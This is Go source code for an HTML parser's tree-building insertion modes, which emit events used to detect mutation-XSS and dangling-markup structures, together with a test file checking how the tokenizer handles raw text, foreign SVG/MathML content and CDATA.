			tb.parseGenericRawText(*t)
			return true
		}
		tb.reconstructAFE()
		tb.insertElement(*t, NamespaceHTML)
		return true
	case "select":
		tb.reconstructAFE()
		tb.insertElement(*t, NamespaceHTML)
		tb.framesetOK = false
		switch tb.mode {
		case modeInTable, modeInCaption, modeInTableBody, modeInRow, modeInCell:
			tb.mode = modeInSelectInTable
		default:
			tb.mode = modeInSelect
		}
		return true
	case "optgroup", "option":
		if tb.currentNode() != nil && tb.currentNode().IsElement("option") {
			tb.pop()
		}
		tb.reconstructAFE()
		tb.insertElement(*t, NamespaceHTML)
		return true
	case "rb", "rtc":
		if tb.elementInScope(nil, "ruby") {
			tb.generateImpliedEndTags("")
		}
		tb.insertElement(*t, NamespaceHTML)
		return true
	case "rp", "rt":
		if tb.elementInScope(nil, "ruby") {
			tb.generateImpliedEndTags("rtc")
		}
		tb.insertElement(*t, NamespaceHTML)
		return true
	case "math":
		tb.reconstructAFE()
		for i := range t.Attr {
			if t.Attr[i].Name == "definitionurl" {
				t.Attr[i].Name = "definitionURL"
			}
		}
		tb.insertElement(*t, NamespaceMathML)
		if t.SelfClosing {
			tb.pop()
			tb.ackSelfClosing()
		}
		return true
	case "svg":
		tb.reconstructAFE()
		for i := range t.Attr {
			if adj, ok := svgAttrAdjustments[t.Attr[i].Name]; ok {
				t.Attr[i].Name = adj
			}
		}
		tb.insertElement(*t, NamespaceSVG)
		if t.SelfClosing {
			tb.pop()
			tb.ackSelfClosing()
		}
		return true
	case "caption", "col", "colgroup", "frame", "head", "tbody", "td",
		"tfoot", "th", "thead", "tr":
		tb.parseError(ErrUnexpectedStartTag, t.Data, t.Pos)
		return true
	}
	// A tag that exists only in the SVG or MathML vocabulary, while the
	// parser is in the HTML namespace: detached foreign markup, the HF5_1
	// signal. The parser's repair is to insert it as an unknown HTML
	// element.
	if svgOnlyElements[t.Data] {
		tb.parseError(ErrHTMLIntegrationMisnesting, t.Data, t.Pos)
		tb.event(EventForeignElementInHTML, t.Data, NamespaceSVG, t.Pos)
	} else if mathmlOnlyElements[t.Data] {
		tb.parseError(ErrHTMLIntegrationMisnesting, t.Data, t.Pos)
		tb.event(EventForeignElementInHTML, t.Data, NamespaceMathML, t.Pos)
	}
	tb.reconstructAFE()
	tb.insertElement(*t, NamespaceHTML)
	return true
}

func (tb *treeBuilder) inBodyEndTag(t *Token) bool {
	switch t.Data {
	case "template":
		return tb.inHeadIM(t)
	case "body":
		if !tb.elementInScope(nil, "body") {
			tb.parseError(ErrUnexpectedEndTag, "body", t.Pos)
			return true
		}
		tb.mode = modeAfterBody
		return true
	case "html":
		if !tb.elementInScope(nil, "body") {
			tb.parseError(ErrUnexpectedEndTag, "html", t.Pos)
			return true
		}
		tb.mode = modeAfterBody
		return false
	case "address", "article", "aside", "blockquote", "button", "center",
		"details", "dialog", "dir", "div", "dl", "fieldset", "figcaption",
		"figure", "footer", "header", "hgroup", "listing", "main", "menu",
		"nav", "ol", "pre", "search", "section", "summary", "ul":
		if !tb.elementInScope(nil, t.Data) {
			tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
			return true
		}
		tb.generateImpliedEndTags("")
		if !tb.currentNode().IsElement(t.Data) {
			tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
		}
		tb.popUntil(t.Data)
		return true
	case "form":
		node := tb.form
		tb.form = nil
		if node == nil || tb.indexOnStack(node) < 0 || !tb.elementInScope(nil, "form") {
			tb.parseError(ErrUnexpectedEndTag, "form", t.Pos)
			return true
		}
		tb.generateImpliedEndTags("")
		if tb.currentNode() != node {
			tb.parseError(ErrUnexpectedEndTag, "form", t.Pos)
		}
		tb.removeFromStack(node)
		return true
	case "p":
		if !tb.elementInScope(buttonScopeExtra, "p") {
			tb.parseError(ErrUnexpectedEndTag, "p", t.Pos)
			tb.insertImplied("p", t.Pos)
		}
		tb.closePElement()
		return true
	case "li":
		if !tb.elementInScope(listItemScopeExtra, "li") {
			tb.parseError(ErrUnexpectedEndTag, "li", t.Pos)
			return true
		}
		tb.generateImpliedEndTags("li")
		if !tb.currentNode().IsElement("li") {
			tb.parseError(ErrUnexpectedEndTag, "li", t.Pos)
		}
		tb.popUntil("li")
		return true
	case "dd", "dt":
		if !tb.elementInScope(nil, t.Data) {
			tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
			return true
		}
		tb.generateImpliedEndTags(t.Data)
		if !tb.currentNode().IsElement(t.Data) {
			tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
		}
		tb.popUntil(t.Data)
		return true
	case "h1", "h2", "h3", "h4", "h5", "h6":
		if !tb.elementInScope(nil, "h1", "h2", "h3", "h4", "h5", "h6") {
			tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
			return true
		}
		tb.generateImpliedEndTags("")
		if !tb.currentNode().IsElement(t.Data) {
			tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
		}
		tb.popUntil("h1", "h2", "h3", "h4", "h5", "h6")
		return true
	case "a", "b", "big", "code", "em", "font", "i", "nobr", "s", "small",
		"strike", "strong", "tt", "u":
		tb.adoptionAgency(t)
		return true
	case "applet", "marquee", "object":
		if !tb.elementInScope(nil, t.Data) {
			tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
			return true
		}
		tb.generateImpliedEndTags("")
		if !tb.currentNode().IsElement(t.Data) {
			tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
		}
		tb.popUntil(t.Data)
		tb.clearAFEToMarker()
		return true
	case "br":
		tb.parseError(ErrUnexpectedEndTag, "br", t.Pos)
		tb.reconstructAFE()
		tb.insertImplied("br", t.Pos)
		tb.pop()
		tb.framesetOK = false
		return true
	}
	tb.anyOtherEndTag(t)
	return true
}

// anyOtherEndTag implements the in-body "any other end tag" steps.
func (tb *treeBuilder) anyOtherEndTag(t *Token) {
	for i := len(tb.stack) - 1; i >= 0; i-- {
		node := tb.stack[i]
		if node.Namespace == NamespaceHTML && node.Data == t.Data {
			tb.generateImpliedEndTags(t.Data)
			if tb.currentNode() != node {
				tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
			}
			for len(tb.stack) > i {
				tb.pop()
			}
			return
		}
		if node.Namespace == NamespaceHTML && specialElements[node.Data] {
			tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
			tb.event(EventIgnoredToken, "/"+t.Data, NamespaceHTML, t.Pos)
			return
		}
	}
}

// ---- 13.2.6.4.8 text ----

func (tb *treeBuilder) textIM(t *Token) bool {
	switch t.Type {
	case CharacterToken:
		tb.insertText(t.Data, t.Pos)
		return true
	case EOFToken:
		// A raw-text element (textarea, title, script, ...) was never
		// closed; the parser closes it at EOF. For textarea this is the
		// DE1 dangling-markup signal.
		n := tb.currentNode()
		tb.parseError(ErrUnexpectedEOFInElement, n.Data, t.Pos)
		n.AutoClosedAtEOF = true
		tb.events = append(tb.events, TreeEvent{
			Kind: EventAutoClosedAtEOF, Detail: n.Data,
			Namespace: n.Namespace, Pos: t.Pos,
		})
		tb.pop()
		tb.mode = tb.originalMode
		return false
	case EndTagToken:
		tb.pop()
		tb.mode = tb.originalMode
		return true
	}
	return true
}

// ---- 13.2.6.4.9 in table ----

func (tb *treeBuilder) inTableIM(t *Token) bool {
	switch t.Type {
	case CharacterToken:
		switch cur := tb.currentNode(); {
		case cur != nil && cur.Namespace == NamespaceHTML &&
			(cur.Data == "table" || cur.Data == "tbody" || cur.Data == "tfoot" ||
				cur.Data == "thead" || cur.Data == "tr"):
			tb.pendingTableText = tb.pendingTableText[:0]
			tb.tableTextPos = t.Pos
			tb.originalMode = tb.mode
			tb.mode = modeInTableText
			return false
		}
	case CommentToken:
		tb.insertComment(*t, nil)
		return true
	case DoctypeToken:
		tb.parseError(ErrUnexpectedDoctype, "", t.Pos)
		return true
	case EOFToken:
		return tb.inBodyIM(t)
	case StartTagToken:
		switch t.Data {
		case "caption":
			tb.clearStackToContext(tableContextTags)
			tb.pushAFEMarker()
			tb.insertElement(*t, NamespaceHTML)
			tb.mode = modeInCaption
			return true
		case "colgroup":
			tb.clearStackToContext(tableContextTags)
			tb.insertElement(*t, NamespaceHTML)
			tb.mode = modeInColumnGroup
			return true
		case "col":
			tb.clearStackToContext(tableContextTags)
			tb.insertImplied("colgroup", t.Pos)
			tb.mode = modeInColumnGroup
			return false
		case "tbody", "tfoot", "thead":
			tb.clearStackToContext(tableContextTags)
			tb.insertElement(*t, NamespaceHTML)
			tb.mode = modeInTableBody
			return true
		case "td", "th", "tr":
			tb.clearStackToContext(tableContextTags)
			tb.insertImplied("tbody", t.Pos)
			tb.mode = modeInTableBody
			return false
		case "table":
			tb.parseError(ErrUnexpectedStartTag, "table", t.Pos)
			if !tb.elementInTableScope("table") {
				return true
			}
			tb.popUntil("table")
			tb.resetInsertionMode()
			return false
		case "style", "script", "template":
			return tb.inHeadIM(t)
		case "input":
			if typ, _ := t.LookupAttr("type"); asciiLower(typ) == "hidden" {
				tb.parseError(ErrUnexpectedStartTag, "input", t.Pos)
				tb.insertElement(*t, NamespaceHTML)
				tb.pop()
				return true
			}
		case "form":
			tb.parseError(ErrUnexpectedStartTag, "form", t.Pos)
			if tb.form == nil {
				tb.form = tb.insertElement(*t, NamespaceHTML)
				tb.pop()
			}
			return true
		}
	case EndTagToken:
		switch t.Data {
		case "table":
			if !tb.elementInTableScope("table") {
				tb.parseError(ErrUnexpectedEndTag, "table", t.Pos)
				return true
			}
			tb.popUntil("table")
			tb.resetInsertionMode()
			return true
		case "body", "caption", "col", "colgroup", "html", "tbody", "td",
			"tfoot", "th", "thead", "tr":
			tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
			return true
		case "template":
			return tb.inHeadIM(t)
		}
	}
	// Anything else: content that is not legal inside a table. The parser
	// enables foster parenting and rearranges the node in front of the
	// table — the HF4 signal and an mXSS building block.
	detail := "#text"
	if t.Type == StartTagToken || t.Type == EndTagToken {
		detail = t.Data
	}
	tb.parseError(ErrFosterParenting, detail, t.Pos)
	if t.Type == StartTagToken {
		tb.event(EventFosterParented, detail, NamespaceHTML, t.Pos)
	}
	tb.fosterParenting = true
	consumed := tb.inBodyIM(t)
	tb.fosterParenting = false
	return consumed
}

// clearStackToContext pops until the current node is in the stop set.
func (tb *treeBuilder) clearStackToContext(stop map[string]bool) {
	for len(tb.stack) > 0 {
		n := tb.currentNode()
		if n.Namespace == NamespaceHTML && stop[n.Data] {
			return
		}
		tb.pop()
	}
}

// ---- 13.2.6.4.10 in table text ----

func (tb *treeBuilder) inTableTextIM(t *Token) bool {
	if t.Type == CharacterToken {
		data := strings.ReplaceAll(t.Data, "\x00", "")
		if len(data) != len(t.Data) {
			tb.parseError(ErrUnexpectedNullCharacter, "", tb.nulPos(t))
		}
		if data != "" {
			tb.pendingTableText = append(tb.pendingTableText, Token{Type: CharacterToken, Data: data, Pos: t.Pos})
		}
		return true
	}
	var all strings.Builder
	for _, ct := range tb.pendingTableText {
		all.WriteString(ct.Data)
	}
	text := all.String()
	tb.pendingTableText = tb.pendingTableText[:0]
	if text != "" {
		if isAllWhitespace(text) {
			tb.insertText(text, tb.tableTextPos)
		} else {
			// Non-whitespace text inside a table: foster-parented (HF4).
			tb.parseError(ErrUnexpectedTextInTable, "", tb.tableTextPos)
			tb.event(EventFosterParented, "#text", NamespaceHTML, tb.tableTextPos)
			tb.fosterParenting = true
			tb.reconstructAFE()
			tb.insertText(text, tb.tableTextPos)
			tb.framesetOK = false
			tb.fosterParenting = false
		}
	}
	tb.mode = tb.originalMode
	return false
}

// ---- 13.2.6.4.11 in caption ----

func (tb *treeBuilder) inCaptionIM(t *Token) bool {
	switch t.Type {
	case StartTagToken:
		switch t.Data {
		case "caption", "col", "colgroup", "tbody", "td", "tfoot", "th",
			"thead", "tr":
			if !tb.closeCaption(t.Pos) {
				return true // fragment-ish case: ignore
			}
			return false
		}
	case EndTagToken:
		switch t.Data {
		case "caption":
			tb.closeCaption(t.Pos)
			return true
		case "table":
			if !tb.closeCaption(t.Pos) {
				return true
			}
			return false
		case "body", "col", "colgroup", "html", "tbody", "td", "tfoot",
			"th", "thead", "tr":
			tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
			return true
		}
	}
	return tb.inBodyIM(t)
}

func (tb *treeBuilder) closeCaption(pos Position) bool {
	if !tb.elementInTableScope("caption") {
		tb.parseError(ErrUnexpectedEndTag, "caption", pos)
		return false
	}
	tb.generateImpliedEndTags("")
	if !tb.currentNode().IsElement("caption") {
		tb.parseError(ErrUnexpectedEndTag, "caption", pos)
	}
	tb.popUntil("caption")
	tb.clearAFEToMarker()
	tb.mode = modeInTable
	return true
}

// ---- 13.2.6.4.12 in column group ----

func (tb *treeBuilder) inColumnGroupIM(t *Token) bool {
	switch t.Type {
	case CharacterToken:
		ws, rest := splitLeadingWhitespace(t.Data)
		if ws != "" {
			tb.insertText(ws, t.Pos)
		}
		if rest == "" {
			return true
		}
		t.Data = rest
	case CommentToken:
		tb.insertComment(*t, nil)
		return true
	case DoctypeToken:
		tb.parseError(ErrUnexpectedDoctype, "", t.Pos)
		return true
	case EOFToken:
		return tb.inBodyIM(t)
	case StartTagToken:
		switch t.Data {
		case "html":
			return tb.inBodyIM(t)
		case "col":
			tb.insertElement(*t, NamespaceHTML)
			tb.pop()
			tb.ackSelfClosing()
			return true
		case "template":
			return tb.inHeadIM(t)
		}
	case EndTagToken:
		switch t.Data {
		case "colgroup":
			if !tb.currentNode().IsElement("colgroup") {
				tb.parseError(ErrUnexpectedEndTag, "colgroup", t.Pos)
				return true
			}
			tb.pop()
			tb.mode = modeInTable
			return true
		case "col":
			tb.parseError(ErrUnexpectedEndTag, "col", t.Pos)
			return true
		case "template":
			return tb.inHeadIM(t)
		}
	}
	if !tb.currentNode().IsElement("colgroup") {
		tb.parseError(ErrUnexpectedEndTag, "colgroup", t.Pos)
		return true
	}
	tb.pop()
	tb.mode = modeInTable
	return false
}

// ---- 13.2.6.4.13 in table body ----

func (tb *treeBuilder) inTableBodyIM(t *Token) bool {
	switch t.Type {
	case StartTagToken:
		switch t.Data {
		case "tr":
			tb.clearStackToContext(tableBodyContextTags)
			tb.insertElement(*t, NamespaceHTML)
			tb.mode = modeInRow
			return true
		case "th", "td":
			tb.parseError(ErrUnexpectedStartTag, t.Data, t.Pos)
			tb.clearStackToContext(tableBodyContextTags)
			tb.insertImplied("tr", t.Pos)
			tb.mode = modeInRow
			return false
		case "caption", "col", "colgroup", "tbody", "tfoot", "thead":
			if !tb.elementInTableScope("tbody", "thead", "tfoot") {
				tb.parseError(ErrUnexpectedStartTag, t.Data, t.Pos)
				return true
			}
			tb.clearStackToContext(tableBodyContextTags)
			tb.pop()
			tb.mode = modeInTable
			return false
		}
	case EndTagToken:
		switch t.Data {
		case "tbody", "tfoot", "thead":
			if !tb.elementInTableScope(t.Data) {
				tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
				return true
			}
			tb.clearStackToContext(tableBodyContextTags)
			tb.pop()
			tb.mode = modeInTable
			return true
		case "table":
			if !tb.elementInTableScope("tbody", "thead", "tfoot") {
				tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
				return true
			}
			tb.clearStackToContext(tableBodyContextTags)
			tb.pop()
			tb.mode = modeInTable
			return false
		case "body", "caption", "col", "colgroup", "html", "td", "th", "tr":
			tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
			return true
		}
	}
	return tb.inTableIM(t)
}

// ---- 13.2.6.4.14 in row ----

func (tb *treeBuilder) inRowIM(t *Token) bool {
	switch t.Type {
	case StartTagToken:
		switch t.Data {
		case "th", "td":
			tb.clearStackToContext(tableRowContextTags)
			tb.insertElement(*t, NamespaceHTML)
			tb.mode = modeInCell
			tb.pushAFEMarker()
			return true
		case "caption", "col", "colgroup", "tbody", "tfoot", "thead", "tr":
			if !tb.endRow(t.Pos) {
				return true
			}
			return false
		}
	case EndTagToken:
		switch t.Data {
		case "tr":
			tb.endRow(t.Pos)
			return true
		case "table":
			if !tb.endRow(t.Pos) {
				return true
			}
			return false
		case "tbody", "tfoot", "thead":
			if !tb.elementInTableScope(t.Data) {
				tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
				return true
			}
			if !tb.endRow(t.Pos) {
				return true
			}
			return false
		case "body", "caption", "col", "colgroup", "html", "td", "th":
			tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
			return true
		}
	}
	return tb.inTableIM(t)
}

func (tb *treeBuilder) endRow(pos Position) bool {
	if !tb.elementInTableScope("tr") {
		tb.parseError(ErrUnexpectedEndTag, "tr", pos)
		return false
	}
	tb.clearStackToContext(tableRowContextTags)
	tb.pop()
	tb.mode = modeInTableBody
	return true
}

// ---- 13.2.6.4.15 in cell ----

func (tb *treeBuilder) inCellIM(t *Token) bool {
	switch t.Type {
	case StartTagToken:
		switch t.Data {
		case "caption", "col", "colgroup", "tbody", "td", "tfoot", "th",
			"thead", "tr":
			if !tb.elementInTableScope("td", "th") {
				tb.parseError(ErrUnexpectedStartTag, t.Data, t.Pos)
				return true
			}
			tb.closeCell(t.Pos)
			return false
		}
	case EndTagToken:
		switch t.Data {
		case "td", "th":
			if !tb.elementInTableScope(t.Data) {
				tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
				return true
			}
			tb.generateImpliedEndTags("")
			if !tb.currentNode().IsElement(t.Data) {
				tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
			}
			tb.popUntil(t.Data)
			tb.clearAFEToMarker()
			tb.mode = modeInRow
			return true
		case "body", "caption", "col", "colgroup", "html":
			tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
			return true
		case "table", "tbody", "tfoot", "thead", "tr":
			if !tb.elementInTableScope(t.Data) {
				tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
				return true
			}
			tb.closeCell(t.Pos)
			return false
		}
	}
	return tb.inBodyIM(t)
}

func (tb *treeBuilder) closeCell(pos Position) {
	tb.generateImpliedEndTags("")
	cur := tb.currentNode()
	if cur != nil && !cur.IsElement("td") && !cur.IsElement("th") {
		tb.parseError(ErrUnexpectedEndTag, "td", pos)
	}
	tb.popUntil("td", "th")
	tb.clearAFEToMarker()
	tb.mode = modeInRow
}

// ---- 13.2.6.4.16 in select ----

func (tb *treeBuilder) inSelectIM(t *Token) bool {
	switch t.Type {
	case CharacterToken:
		data := strings.ReplaceAll(t.Data, "\x00", "")
		if len(data) != len(t.Data) {
			tb.parseError(ErrUnexpectedNullCharacter, "", tb.nulPos(t))
		}
		tb.insertText(data, t.Pos)
		return true
	case CommentToken:
		tb.insertComment(*t, nil)
		return true
	case DoctypeToken:
		tb.parseError(ErrUnexpectedDoctype, "", t.Pos)
		return true
	case EOFToken:
		return tb.inBodyIM(t)
	case StartTagToken:
		switch t.Data {
		case "html":
			return tb.inBodyIM(t)
		case "option":
			if tb.currentNode().IsElement("option") {
				tb.pop()
			}
			tb.insertElement(*t, NamespaceHTML)
			return true
		case "optgroup":
			if tb.currentNode().IsElement("option") {
				tb.pop()
			}
			if tb.currentNode().IsElement("optgroup") {
				tb.pop()
			}
			tb.insertElement(*t, NamespaceHTML)
			return true
		case "select":
			tb.parseError(ErrUnexpectedStartTag, "select", t.Pos)
			if tb.elementInSelectScope("select") {
				tb.popUntil("select")
				tb.resetInsertionMode()
			}
			return true
		case "input", "keygen", "textarea":
			tb.parseError(ErrUnexpectedStartTag, t.Data, t.Pos)
			if !tb.elementInSelectScope("select") {
				return true
			}
			tb.popUntil("select")
			tb.resetInsertionMode()
			return false
		case "script", "template":
			return tb.inHeadIM(t)
		}
	case EndTagToken:
		switch t.Data {
		case "optgroup":
			if tb.currentNode().IsElement("option") && len(tb.stack) > 1 &&
				tb.stack[len(tb.stack)-2].IsElement("optgroup") {
				tb.pop()
			}
			if tb.currentNode().IsElement("optgroup") {
				tb.pop()
			} else {
				tb.parseError(ErrUnexpectedEndTag, "optgroup", t.Pos)
			}
			return true
		case "option":
			if tb.currentNode().IsElement("option") {
				tb.pop()
			} else {
				tb.parseError(ErrUnexpectedEndTag, "option", t.Pos)
			}
			return true
		case "select":
			if !tb.elementInSelectScope("select") {
				tb.parseError(ErrUnexpectedEndTag, "select", t.Pos)
				return true
			}
			tb.popUntil("select")
			tb.resetInsertionMode()
			return true
		case "template":
			return tb.inHeadIM(t)
		}
	}
	tb.parseError(ErrUnexpectedStartTag, t.Data, t.Pos)
	tb.event(EventIgnoredToken, t.Data, NamespaceHTML, t.Pos)
	return true
}

// ---- 13.2.6.4.17 in select in table ----

func (tb *treeBuilder) inSelectInTableIM(t *Token) bool {
	switch t.Type {
	case StartTagToken:
		switch t.Data {
		case "caption", "table", "tbody", "tfoot", "thead", "tr", "td", "th":
			tb.parseError(ErrUnexpectedStartTag, t.Data, t.Pos)
			tb.popUntil("select")
			tb.resetInsertionMode()
			return false
		}
	case EndTagToken:
		switch t.Data {
		case "caption", "table", "tbody", "tfoot", "thead", "tr", "td", "th":
			tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
			if !tb.elementInTableScope(t.Data) {
				return true
			}
			tb.popUntil("select")
			tb.resetInsertionMode()
			return false
		}
	}
	return tb.inSelectIM(t)
}

// ---- 13.2.6.4.19 after body ----

func (tb *treeBuilder) afterBodyIM(t *Token) bool {
	switch t.Type {
	case CharacterToken:
		if isAllWhitespace(t.Data) {
			return tb.inBodyIM(t)
		}
	case CommentToken:
		if len(tb.stack) > 0 {
			tb.insertComment(*t, tb.stack[0])
		}
		return true
	case DoctypeToken:
		tb.parseError(ErrUnexpectedDoctype, "", t.Pos)
		return true
	case StartTagToken:
		if t.Data == "html" {
			return tb.inBodyIM(t)
		}
	case EndTagToken:
		if t.Data == "html" {
			tb.mode = modeAfterAfterBody
			return true
		}
	case EOFToken:
		tb.stopParsing(t.Pos)
		return true
	}
	tb.parseError(ErrUnexpectedStartTag, t.Data, t.Pos)
	tb.mode = modeInBody
	return false
}

// ---- 13.2.6.4.22 after after body ----

func (tb *treeBuilder) afterAfterBodyIM(t *Token) bool {
	switch t.Type {
	case CommentToken:
		tb.insertComment(*t, tb.doc)
		return true
	case CharacterToken:
		if isAllWhitespace(t.Data) {
			return tb.inBodyIM(t)
		}
	case DoctypeToken:
		return tb.inBodyIM(t)
	case StartTagToken:
		if t.Data == "html" {
			return tb.inBodyIM(t)
		}
	case EOFToken:
		tb.stopParsing(t.Pos)
		return true
	}
	tb.parseError(ErrUnexpectedStartTag, t.Data, t.Pos)
	tb.mode = modeInBody
	return false
}

// ---- 13.2.6.4.20/21 frameset modes (minimal: framesets are extinct and
// no violation rule depends on them, but documents using them must still
// parse) ----

func (tb *treeBuilder) inFramesetIM(t *Token) bool {
	switch t.Type {
	case CharacterToken:
		ws, _ := splitLeadingWhitespace(t.Data)
		if ws != "" {
			tb.insertText(ws, t.Pos)
		}
		return true
	case CommentToken:
		tb.insertComment(*t, nil)
		return true
	case EOFToken:
		tb.stopParsing(t.Pos)
		return true
	case StartTagToken:
		switch t.Data {
		case "html":
			return tb.inBodyIM(t)
		case "frameset":
			tb.insertElement(*t, NamespaceHTML)
			return true
		case "frame":
			tb.insertElement(*t, NamespaceHTML)
			tb.pop()
			tb.ackSelfClosing()
			return true
		case "noframes":
			return tb.inHeadIM(t)
		}
	case EndTagToken:
		if t.Data == "frameset" {
			if tb.currentNode() != nil && !tb.currentNode().IsElement("html") {
				tb.pop()
			}
			if tb.currentNode() != nil && !tb.currentNode().IsElement("frameset") {
				tb.mode = modeAfterFrameset
			}
			return true
		}
	}
	tb.parseError(ErrUnexpectedStartTag, t.Data, t.Pos)
	return true
}

func (tb *treeBuilder) afterFramesetIM(t *Token) bool {
	switch t.Type {
	case CharacterToken:
		ws, _ := splitLeadingWhitespace(t.Data)
		if ws != "" {
			tb.insertText(ws, t.Pos)
		}
		return true
	case CommentToken:
		tb.insertComment(*t, nil)
		return true
	case EOFToken:
		tb.stopParsing(t.Pos)
		return true
	case StartTagToken:
		switch t.Data {
		case "html":
			return tb.inBodyIM(t)
		case "noframes":
			return tb.inHeadIM(t)
		}
	case EndTagToken:
		if t.Data == "html" {
			tb.mode = modeAfterAfterFrameset
			return true
		}
	}
	tb.parseError(ErrUnexpectedStartTag, t.Data, t.Pos)
	return true
}

func (tb *treeBuilder) afterAfterFramesetIM(t *Token) bool {
	switch t.Type {
	case CommentToken:
		tb.insertComment(*t, tb.doc)
		return true
	case CharacterToken:
		ws, _ := splitLeadingWhitespace(t.Data)
		if ws != "" {
			tb.insertText(ws, t.Pos)
		}
		return true
	case EOFToken:
		tb.stopParsing(t.Pos)
		return true
	case StartTagToken:
		switch t.Data {
		case "html":
			return tb.inBodyIM(t)
		case "noframes":
			return tb.inHeadIM(t)
		}
	}
	tb.parseError(ErrUnexpectedStartTag, t.Data, t.Pos)
	return true
}
