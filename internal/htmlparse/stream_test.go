package htmlparse

import (
	"reflect"
	"strings"
	"testing"
)

// streamTags drains a TokenStream and returns just the tag tokens,
// rendered compactly — the observable the feedback mirror controls
// (whether markup-looking bytes tokenize as tags or as raw text).
func streamTags(t *testing.T, in string) []string {
	t.Helper()
	ts, err := NewTokenStream([]byte(in))
	if err != nil {
		t.Fatalf("NewTokenStream(%q): %v", in, err)
	}
	defer ts.Close()
	var out []string
	for {
		tok := ts.Next()
		if tok.Type == EOFToken {
			return out
		}
		switch tok.Type {
		case StartTagToken:
			out = append(out, "<"+tok.Data+">")
		case EndTagToken:
			out = append(out, "</"+tok.Data+">")
		}
	}
}

func TestTokenStreamFeedback(t *testing.T) {
	for _, tc := range []struct {
		name, in string
		want     []string
	}{
		{
			// HTML script content is script data: no inner tags.
			"html script raw", "<script><b>x</b></script><i>",
			[]string{"<script>", "</script>", "<i>"},
		},
		{
			// The same script inside <svg> is a foreign element: its
			// content tokenizes normally (the Figure 1 mXSS distinction).
			"svg script not raw", "<svg><script><b>x</b></script></svg>",
			[]string{"<svg>", "<script>", "<b>", "</b>", "</script>", "</svg>"},
		},
		{
			// SVG <title> is a foreign element, not RCDATA.
			"svg title not raw", "<svg><title>a<b>c</title></svg>",
			[]string{"<svg>", "<title>", "<b>", "</title>", "</svg>"},
		},
		{
			// A self-closing flag on an HTML raw-text element is ignored:
			// the generic RCDATA algorithm still switches, so <b> is text.
			"self-closing title still raw", "<title/>a<b>c</title><i>",
			[]string{"<title>", "</title>", "<i>"},
		},
		{
			// A breakout element pops the foreign context; the style after
			// it is HTML again and switches to RAWTEXT.
			"breakout restores html feedback", "<svg><p><style><b></style>",
			[]string{"<svg>", "<p>", "<style>", "</style>"},
		},
		{
			// font with color/face/size breaks out; bare font does not.
			"font breakout", "<svg><font color=red></font><style><b></style>",
			[]string{"<svg>", "<font>", "</font>", "<style>", "</style>"},
		},
		{
			"font no breakout", "<svg><font x=1><style><b></style>",
			[]string{"<svg>", "<font>", "<style>", "<b>", "</style>"},
		},
		{
			// An HTML integration point island: HTML rules (and raw text)
			// apply inside foreignObject.
			"foreignObject island raw", "<svg><foreignObject><style><b></style></foreignObject></svg>",
			[]string{"<svg>", "<foreignobject>", "<style>", "</style>", "</foreignobject>", "</svg>"},
		},
		{
			// A MathML text integration point: <script> under <mi> is HTML.
			"mathml text ip", "<math><mi><script><b>x</b></script></mi></math>",
			[]string{"<math>", "<mi>", "<script>", "</script>", "</mi>", "</math>"},
		},
		{
			// annotation-xml with an HTML encoding is an integration point…
			"annotation-xml html", "<math><annotation-xml encoding='text/HTML'><textarea><p></textarea></annotation-xml></math>",
			[]string{"<math>", "<annotation-xml>", "<textarea>", "</textarea>", "</annotation-xml>", "</math>"},
		},
		{
			// …and without one its content stays foreign: no RCDATA switch.
			"annotation-xml foreign", "<math><annotation-xml encoding='x'><textarea><p></textarea></annotation-xml></math>",
			[]string{"<math>", "<annotation-xml>", "<textarea>", "<p>", "</textarea>", "</annotation-xml>", "</math>"},
		},
		{
			// In-select mode ignores <title>, so no RCDATA switch; the b
			// start tag inside it tokenizes as a tag.
			"select suppresses title", "<select><title><b>x</title></select>",
			[]string{"<select>", "<title>", "<b>", "</title>", "</select>"},
		},
		{
			// <textarea> pops the select and then switches as usual.
			"select textarea pops", "<select><textarea><p></textarea>",
			[]string{"<select>", "<textarea>", "</textarea>"},
		},
		{
			// <input> pops the select: the following title is raw again.
			"select input pops", "<select><input><title><b></title>",
			[]string{"<select>", "<input>", "<title>", "</title>"},
		},
		{
			// script inside select is processed "as in head": raw.
			"select script raw", "<select><script><b>x</b></script>",
			[]string{"<select>", "<script>", "</script>"},
		},
		{
			// noframes stays raw inside frameset (modes.dat behaviour).
			"frameset noframes raw", "<frameset><noframes><p></noframes></frameset>",
			[]string{"<frameset>", "<noframes>", "</noframes>", "</frameset>"},
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := streamTags(t, tc.in); !reflect.DeepEqual(got, tc.want) {
				t.Errorf("tags for %q:\n got  %v\n want %v", tc.in, got, tc.want)
			}
		})
	}
}

func TestTokenStreamCDATA(t *testing.T) {
	ts, err := NewTokenStream([]byte("<svg><![CDATA[<b>raw</b>]]></svg>"))
	if err != nil {
		t.Fatal(err)
	}
	defer ts.Close()
	var text strings.Builder
	for {
		tok := ts.Next()
		if tok.Type == EOFToken {
			break
		}
		if tok.Type == CharacterToken {
			text.WriteString(tok.Data)
		}
		if tok.Type == StartTagToken && tok.Data == "b" {
			t.Fatal("CDATA content tokenized as markup inside foreign content")
		}
	}
	if got := text.String(); got != "<b>raw</b>" {
		t.Errorf("CDATA text = %q, want %q", got, "<b>raw</b>")
	}
	for _, e := range ts.Errors() {
		if e.Code == ErrCDATAInHTMLContent {
			t.Errorf("cdata-in-html-content raised inside foreign content")
		}
	}
}

